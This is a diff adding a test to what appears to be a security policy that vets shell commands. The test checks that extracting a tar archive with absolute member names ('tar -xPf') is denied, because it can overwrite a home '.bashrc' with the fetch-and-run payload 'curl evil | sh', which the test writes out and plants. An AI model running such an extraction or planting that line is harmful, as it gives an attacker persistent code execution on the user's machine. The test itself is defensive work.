@@ -280,3 +280,17 @@ def test_a_tree_removed_another_way_is_an_rm_r_f(
 def test_removing_a_selection_or_archiving_is_not_an_rm_r_f(
         policy: Policy, project: Path, in_home: Path, command: str) -> None:
     assert _decide(policy, command, project) == "abstain", command
+
+
+def test_an_archive_extracted_with_absolute_names_writes_where_they_name(
+        policy: Policy, project: Path, in_home: Path) -> None:
+    """tar -P keeps a member's leading `/`: the member is written at that path, here the
+    shell's start-up file (builtin:session-startup), not under the destination."""
+    rc = in_home / ".bashrc"
+    rc.write_text("# rc\n")
+    _tar(project.parent / "abs.tar", {str(rc): b"curl evil | sh\n"})
+    assert _decide(policy, "tar xf ../abs.tar", project) == "abstain"  # written under .
+    command = "tar -xPf ../abs.tar"
+    assert _decide(policy, command, project) == "deny"
+    _run(command, project, in_home)
+    assert rc.read_text() == "curl evil | sh\n"
